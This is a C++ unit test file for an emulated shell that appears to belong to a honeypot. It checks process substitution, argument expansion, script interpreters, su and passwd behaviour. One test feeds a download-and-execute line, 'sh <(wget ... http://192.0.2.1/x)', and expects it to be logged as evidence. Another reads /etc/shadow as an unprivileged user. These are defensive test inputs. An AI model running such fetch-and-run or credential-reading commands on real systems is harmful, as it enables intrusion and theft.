/// Process substitution, all arguments changed at once, scripts with other interpreters, another user's shell.

#include "agent/shell/shell.hpp"

#include <gtest/gtest.h>

#include <algorithm>
#include <chrono>

namespace apiary::agent::test {
namespace {

constexpr WallTime kNow = std::chrono::sys_days{std::chrono::year{2024} / 3 / 1};

class SubstitutionTest : public testing::Test {
protected:
    std::string say(std::string_view line) {
        const Shell::Answer answer = shell_.line(line, kNow);
        late_ = answer.late;
        return answer.output;
    }

    std::string late_;
    std::shared_ptr<const ShellHost> host_ = ShellHost::make({});
    Shell shell_{host_, "root", ""};
};

TEST_F(SubstitutionTest, OfAProcessNamesAPathThatIsNotThere) {
    EXPECT_EQ(say("cat <(echo a)"), "cat: can't open '/dev/fd/64': No such file or directory\n");
    EXPECT_EQ(say("echo <(true) >(cat) \"<(x)\" a<(true)b"), "/dev/fd/64 /dev/fd/65 <(x) a/dev/fd/66b\n");
    EXPECT_EQ(say("while read a; do :; done < <(echo x)"), "-sh: can't open /dev/fd/64: no such file\n");
    EXPECT_EQ(say("echo <(true)"), "/dev/fd/65\n");  // that of the loop stays open
    EXPECT_EQ(say("(echo < (true))"), "-sh: syntax error: unexpected \"(\"\n");
}

TEST_F(SubstitutionTest, OfAProcessRunsIt) {
    const Shell::Answer answer = shell_.line("sh <(wget -qO- http://192.0.2.1/x)", kNow);
    EXPECT_EQ(answer.output, "sh: can't open '/dev/fd/64': No such file or directory\n");
    EXPECT_EQ(answer.late, "wget: can't connect to remote host (192.0.2.1): Network is unreachable\n");
    EXPECT_TRUE(std::ranges::any_of(answer.evidence, [](const Evidence& one) {
        const auto* command = std::get_if<Command>(&one);
        return command != nullptr && command->verb == "fetch" && command->argument == "http://192.0.2.1/x";
    }));
    say("tee >(wc -c) < /etc/hostname");
    EXPECT_EQ(late_, "0\n");
}

TEST_F(SubstitutionTest, OfAllArgumentsTakesThemAsOne) {
    say("p() { for i; do printf '<%s>' \"$i\"; done; echo; }; set -- a 'b c' d e");
    const std::pair<const char*, const char*> cases[] = {
        {"\"${@/b/X}\"", "<a><X c>"},
        {"\"${*/b/X}\" ${*/b/X}", "<a X c d e><a><X><c>"},
        {"\"${@%e}\" ${@%e}", "<a><b c><d><><a><b><c><d>"},
        {"\"${*#a}\" \"${@%d*}\"", "< b c d e><a><b c><>"},
        {"\"${@:2:2}\" ${@:2:4} x\"${@:2}\"y", "<b ><b><c><xb c><d><ey>"},
        {"\"${@:-no}\" \"${*:-no}\" \"${@:+yes}\"", "<a><b c><d><e><a b c d e><yes>"},
    };
    for (const auto& [words, fields] : cases) {
        EXPECT_EQ(say(std::string("p ") + words), std::string(fields) + '\n') << words;
    }
    EXPECT_EQ(say("set --; p \"${@:=x}\""), "-sh: @: bad variable name\n");
}

TEST_F(SubstitutionTest, OfFoldersAlone) {
    EXPECT_EQ(say("cd /; echo */sw*/ /e*/passwd/ /etc/*d/"), "*/sw*/ /e*/passwd/ /etc/init.d/\n");
}

TEST_F(SubstitutionTest, OfAnInterpreterForAScript) {
    const std::pair<const char*, const char*> cases[] = {
        {"#! /bin/sh -x\\necho $0 $1", "+ echo ./c a\n./c a\n"},
        {"#!/bin/cat\\nx\\n", "#!/bin/cat\nx\ncat: can't open 'a': No such file or directory\n"},
        {"#!/usr/bin/awk -f\\nBEGIN{print \"hi\"}\\n", "hi\n"},
        {"#!/usr/bin/env python\\n", "env: can't execute 'python': No such file or directory\n"},
        {"#!\\necho $0\\n", "./c\n"},
        {"#!/bin/sh\\r\\necho\\n", "-sh: ./c: not found\n"},
        {"#!/etc/passwd\\necho\\n", "-sh: ./c: Permission denied\n"},
        {"#!./c\\necho\\n", "-sh: ./c: Too many levels of symbolic links\n"},
    };
    say("cd /tmp; touch c; chmod +x c");
    for (const auto& [script, answer] : cases) {
        say(std::string("printf '") + script + "' > c");
        EXPECT_EQ(say("./c a"), answer) << script;
    }
}

TEST_F(SubstitutionTest, OfAUser) {
    EXPECT_EQ(say("su -s /bin/sh nobody -c 'id -u; echo $HOME $USER $SHELL; cat /etc/shadow; echo > /etc/q'"),
              "65534\n/ nobody /bin/sh\ncat: can't open '/etc/shadow': Permission denied\n"
              "sh: can't create /etc/q: Permission denied\n");
    EXPECT_EQ(say("id -u; echo $USER"), "0\nroot\n");
    say("su nobody -s /bin/sh");
    EXPECT_EQ(shell_.prompt().text, "/root $ ");
    EXPECT_EQ(say("su"), "su: must be suid to work properly\n");
    EXPECT_EQ(say("cd /root"), "sh: cd: can't cd to /root: Permission denied\n");
    say("exit");
    EXPECT_EQ(shell_.prompt().text, "~ # ");
}

TEST_F(SubstitutionTest, OfAPassword) {
    EXPECT_EQ(say("passwd -u root; passwd -l root; passwd -u root"),
              "passwd: password for root is already unlocked\npasswd: password for root changed by root\n"
              "passwd: password for root changed by root\n");
    EXPECT_FALSE(shell_.readsTerminal());
}

}  // namespace
}  // namespace apiary::agent::test
